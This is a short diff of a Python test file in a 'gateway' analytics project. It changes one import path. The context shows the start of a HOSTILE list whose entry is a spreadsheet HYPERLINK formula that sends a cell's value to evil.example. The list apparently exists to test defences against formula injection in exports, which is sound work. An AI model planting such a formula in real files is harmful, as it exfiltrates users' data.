@@ -14,7 +14,7 @@ from gateway.store.facts import Fact, Kind
 from gateway.store.sql.analytics import fold
 from gateway.store.sql.engine import make_engine
 from gateway.store.sql.migrate import migrate
-from gateway.usecases.reports import Period
+from gateway.usecases.analytics.reports import Period
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
